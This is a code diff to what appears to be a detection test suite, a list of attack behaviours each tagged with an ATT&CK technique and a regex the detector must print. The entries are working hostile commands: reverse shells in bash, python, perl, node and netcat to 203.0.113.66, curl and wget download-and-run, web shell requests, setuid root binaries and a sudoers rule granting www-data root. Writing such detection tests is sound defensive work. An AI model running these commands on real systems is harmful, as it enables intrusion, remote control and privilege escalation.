@@ -10,6 +10,8 @@ export interface Behaviour {
   readonly needs?: readonly string[];
   /** What is there before; a part of the ordinary work. */
   readonly before?: string;
+  /** `web`: by www-data, through a hole in the node application (a script for sh). Otherwise in a session of root's. */
+  readonly by?: 'web';
   readonly attack: string;
   /** One edge that has to be told, as it is printed. */
   readonly tells: RegExp;
@@ -18,19 +20,18 @@ export interface Behaviour {
 }
 
 const SLEEPER = 'sleep 300 </dev/null >/dev/null 2>&1 & echo $! >/tmp/pid';
-const AS_WEB = 'su -s /bin/sh www-data -c';
 
 export const BEHAVIOURS: readonly Behaviour[] = [
   // Getting in
   { id: 'php web shell', technique: 'T1505.003', needs: ['php'], attack: 'exec 3<>/dev/tcp/127.0.0.1/8081; printf "GET /s.php?c=id HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3', tells: /[:/]33:\/usr\/bin\/php\S*( \S+)?->proc:\S*:\/usr\/bin\/dash -c/ },
   { id: 'cgi web shell', technique: 'T1505.003', needs: ['busybox'], attack: 'exec 3<>/dev/tcp/127.0.0.1/8082; printf "GET /cgi-bin/x.sh?id HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3', tells: /[:/]33:\S+( \S+)?->proc:\S*:\/usr\/bin\/id/ },
   { id: 'command injection into a node application', technique: 'T1190', attack: 'exec 3<>/dev/tcp/127.0.0.1/8083; printf "GET /?cat%%20/etc/hostname;id HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3', tells: /[:/]33:\S+ \/srv\/app\/app\.js\S*->proc:\S*:\/usr\/bin\/dash -c/ },
-  { id: 'web shell dropped by the web server', technique: 'T1505.003', attack: `${AS_WEB} 'echo x >/srv/www/up/s.php'`, tells: /->file:CREATE:\/srv\/www\/up\/s\.php$/ },
+  { id: 'web shell dropped by the web server', technique: 'T1505.003', by: 'web', attack: 'echo x >/srv/www/up/s.php', tells: /->file:CREATE:\/srv\/www\/up\/s\.php$/ },
   { id: 'defacement', technique: 'T1491', attack: 'echo pwned >/srv/www/index.html', tells: /->file:WRITE:\/srv\/www\/index\.html$/ },
 
   // Shells that call back, or wait
-  { id: 'reverse shell of bash', technique: 'T1059.004', attack: "timeout 5 bash -c 'exec 3<>/dev/tcp/203.0.113.66/4444; sh <&3 >&3 2>&3'", tells: /\/bash -c\S*->host:203\.0\.113\.66:4444$/ },
-  { id: 'reverse shell of python', technique: 'T1059.006', needs: ['python3'], attack: `timeout 5 python3 -c 'import socket,os,subprocess as p;s=socket.create_connection(("203.0.113.66",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];p.call(["/bin/sh","-i"])'`, tells: /\/python\S* -c\S*->host:203\.0\.113\.66:4444$/ },
+  { id: 'reverse shell of bash', technique: 'T1059.004', by: 'web', attack: "timeout 5 bash -c 'exec 3<>/dev/tcp/203.0.113.66/4444; sh <&3 >&3 2>&3'", tells: /\/bash -c\S*->host:203\.0\.113\.66:4444$/ },
+  { id: 'reverse shell of python', technique: 'T1059.006', needs: ['python3'], by: 'web', attack: `timeout 5 python3 -c 'import socket,os,subprocess as p;s=socket.create_connection(("203.0.113.66",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];p.call(["/bin/sh","-i"])'`, tells: /\/python\S* -c\S*->host:203\.0\.113\.66:4444$/ },
   { id: 'reverse shell of perl', technique: 'T1059', needs: ['perl'], attack: `timeout 5 perl -e 'socket(S,2,1,6);connect(S,pack("SnC4x8",2,4444,203,0,113,66));open(STDIN,"<&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh","-i")'`, tells: /\/perl -e\S*->host:203\.0\.113\.66:4444$/ },
   { id: 'reverse shell of node', technique: 'T1059.007', attack: `timeout 5 node -e 'const s=require("net").connect(4444,"203.0.113.66",()=>{const c=require("child_process").spawn("/bin/sh",["-i"]);s.pipe(c.stdin);c.stdout.pipe(s)})'`, tells: /\/node -e\S*->host:203\.0\.113\.66:4444$/ },
   { id: 'reverse shell of netcat through a fifo', technique: 'T1059.004', needs: ['nc.openbsd'], attack: "cd /tmp; mkfifo f; timeout 5 sh -c 'sh -i <f 2>&1 | nc.openbsd -N 203.0.113.66 4444 >f'", tells: /\/nc\.openbsd\S*->host:203\.0\.113\.66:4444$/ },
@@ -43,7 +44,7 @@ export const BEHAVIOURS: readonly Behaviour[] = [
   { id: 'terminal for a blind shell', technique: 'T1059.006', needs: ['python3'], attack: `echo exit | python3 -c 'import pty;pty.spawn("/bin/bash")'`, tells: /\/python\S* -c\S*->proc:\S*:\/usr\/bin\/bash/ },
 
   // Bringing tools
-  { id: 'download piped into a shell', technique: 'T1105', needs: ['curl'], attack: 'curl -s http://203.0.113.66:8090/p.sh | sh', tells: /\/curl\S*->host:203\.0\.113\.66:8090$/ },
+  { id: 'download piped into a shell', technique: 'T1105', needs: ['curl'], by: 'web', attack: 'curl -s http://203.0.113.66:8090/p.sh | sh', tells: /\/curl\S*->host:203\.0\.113\.66:8090$/ },
   { id: 'download, chmod +x, run', technique: 'T1105', needs: ['wget'], attack: 'wget -q -O /tmp/d http://203.0.113.66:8090/p.sh; chmod +x /tmp/d; /tmp/d', tells: /->proc:\S*:\/usr\/bin\/dash \/tmp\/d/ },
   { id: 'download by the shell itself', technique: 'T1105', attack: 'exec 3<>/dev/tcp/203.0.113.66/8090; printf "GET /p.sh HTTP/1.0\\r\\n\\r\\n" >&3; sed "1,/^.$/d" <&3 >/tmp/e; chmod +x /tmp/e; /tmp/e', tells: /->proc:\S*:\/usr\/bin\/dash \/tmp\/e/ },
   { id: 'script hidden in base64', technique: 'T1140', attack: 'echo aWQ7dW5hbWUgLWE= | base64 -d | bash', tells: /->proc:\S*:\/usr\/bin\/base64/ },
@@ -96,14 +97,14 @@ b=c.create_string_buffer(8);r=lib.process_vm_readv(p,c.byref(V(c.addressof(b),8)
   { id: 'program from memory, through /proc', technique: 'T1620', needs: ['python3'], attack: `python3 -c 'import os;f=os.memfd_create("x",0);os.write(f,open("/bin/true","rb").read());os.execv("/proc/self/fd/%d"%f,["x"])'`, tells: /->proc:\S*memfd:x/ },
   { id: 'program from memory, by perl', technique: 'T1620', needs: ['perl'], attack: `perl -e '$f=syscall(319,$n="z",0);open(O,">&=".$f);open(I,"</bin/true");binmode I;{local $/;print O <I>}$|=1;select O;$|=1;exec{"/proc/$$/fd/$f"}"z"'`, tells: /->(?:proc:\S*memfd:z|kernel:memfd)/ },
   { id: 'module of the kernel', technique: 'T1547.006', needs: ['insmod'], attack: 'head -c 64 /dev/zero >/tmp/x.ko; insmod /tmp/x.ko; true', tells: /->kernel:module/ },
-  { id: 'namespaces of one\'s own', technique: 'T1611', attack: `${AS_WEB} 'unshare -Urm id'; true`, tells: /->kernel:unshare/ },
+  { id: 'namespaces of one\'s own', technique: 'T1611', by: 'web', attack: 'unshare -Urm id', tells: /->kernel:unshare/ },
   { id: 'into the namespaces of pid 1', technique: 'T1611', attack: 'nsenter -t 1 -m -u -i sh -c id', tells: /->kernel:setns/ },
   { id: 'mount that hides files', technique: 'T1564', attack: 'mkdir -p /mnt/x; mount -t tmpfs none /mnt/x; echo hidden >/mnt/x/f; umount /mnt/x', tells: /->kernel:mount:\/mnt\/x$/ },
   { id: 'bind mount over a directory', technique: 'T1564', before: 'mkdir -p /srv/empty /srv/hide', attack: 'mount --bind /srv/empty /srv/hide; umount /srv/hide', tells: /->kernel:mount:\/srv\/hide$/ },
   { id: 'io_uring', technique: 'T1562', needs: ['perl'], attack: `perl -e '$p="\\0"x120; syscall(425, 4, $p)'; true`, tells: /->kernel:io_uring/ },
-  { id: 'setuid program that becomes root', technique: 'T1548', needs: ['gcc'], before: `printf '#include <unistd.h>\\nint main(void){if(setuid(0))return 1;execl("/usr/bin/id","id",(char*)0);return 1;}\\n' >/tmp/r.c; gcc -o /usr/local/bin/rootme /tmp/r.c; chmod 4755 /usr/local/bin/rootme`, attack: `${AS_WEB} /usr/local/bin/rootme`, tells: /->proc:\S*\/0:\/usr\/local\/bin\/rootme/ },
-  { id: 'setuid shell of a service', technique: 'T1548.001', before: 'cp /bin/bash /usr/local/bin/rootbash; chmod 4755 /usr/local/bin/rootbash', attack: `${AS_WEB} '/usr/local/bin/rootbash -p -c id'`, tells: /->proc:\S*\/0:\/usr\/local\/bin\/rootbash/ },
-  { id: 'sudo by a service', technique: 'T1548.003', needs: ['sudo'], before: "mkdir -p /etc/sudoers.d; echo 'www-data ALL=(ALL) NOPASSWD:ALL' >/etc/sudoers.d/90-x; chmod 440 /etc/sudoers.d/90-x", attack: `${AS_WEB} 'sudo -n id'`, tells: /->proc:\S*:\/usr\/bin\/sudo/ },
+  { id: 'setuid program that becomes root', technique: 'T1548', needs: ['gcc'], before: `printf '#include <unistd.h>\\nint main(void){if(setuid(0))return 1;execl("/usr/bin/id","id",(char*)0);return 1;}\\n' >/tmp/r.c; gcc -o /usr/local/bin/rootme /tmp/r.c; chmod 4755 /usr/local/bin/rootme`, by: 'web', attack: '/usr/local/bin/rootme', tells: /->proc:\S*[:/]0:\/usr\/local\/bin\/rootme/ },
+  { id: 'setuid shell of a service', technique: 'T1548.001', before: 'cp /bin/bash /usr/local/bin/rootbash; chmod 4755 /usr/local/bin/rootbash', by: 'web', attack: '/usr/local/bin/rootbash -p -c id', tells: /->proc:\S*[:/]0:\/usr\/local\/bin\/rootbash/ },
+  { id: 'sudo by a service', technique: 'T1548.003', needs: ['sudo'], before: "mkdir -p /etc/sudoers.d; echo 'www-data ALL=(ALL) NOPASSWD:ALL' >/etc/sudoers.d/90-x; chmod 440 /etc/sudoers.d/90-x", by: 'web', attack: 'sudo -n id', tells: /->proc:\S*:\/usr\/bin\/sudo/ },
 
   // Hiding
   { id: 'immutable file', technique: 'T1222.002', needs: ['chattr'], attack: 'touch /tmp/imm; chattr +i /tmp/imm; chattr -i /tmp/imm; true', tells: /->proc:\S*:\/usr\/bin\/chattr/ },
@@ -131,7 +132,7 @@ b=c.create_string_buffer(8);r=lib.process_vm_readv(p,c.byref(V(c.addressof(b),8)
 
   // Looking around
   { id: 'search for setuid programs', technique: 'T1083', needs: ['find'], attack: 'find /usr/bin -perm -4000 >/dev/null', tells: /->proc:\S*:\/usr\/bin\/find/ },
-  { id: 'burst of discovery', technique: 'T1082', attack: 'id; uname -a; whoami; groups; cat /etc/os-release; df -h; mount; env; hostname', tells: /->proc:\S*:\/usr\/bin\/(?:whoami|uname|mount)/ },
+  { id: 'burst of discovery', technique: 'T1082', by: 'web', attack: 'id; uname -a; whoami; groups; cat /etc/os-release; df -h; mount; env; hostname', tells: /->proc:\S*:\/usr\/bin\/(?:whoami|uname|mount)/ },
   { id: 'packets sniffed', technique: 'T1040', needs: ['tcpdump'], attack: 'timeout 1 tcpdump -Z root -i lo -c1 -w /tmp/c.pcap; true', tells: /->proc:\S*:\/usr\/bin\/tcpdump/ },
   { id: 'packets sniffed by a script', technique: 'T1040', needs: ['perl'], attack: "perl -e 'socket(S,17,3,0x300) || die'", tells: /\/perl -e\S*->listen:packet:\*$/ },
   { id: 'port scan', technique: 'T1046', attack: 'for p in {20..60}; do (exec 3<>/dev/tcp/127.0.0.1/$p); done 2>/dev/null; true', tells: /->host:127\.0\.0\.1:4\d$/ },
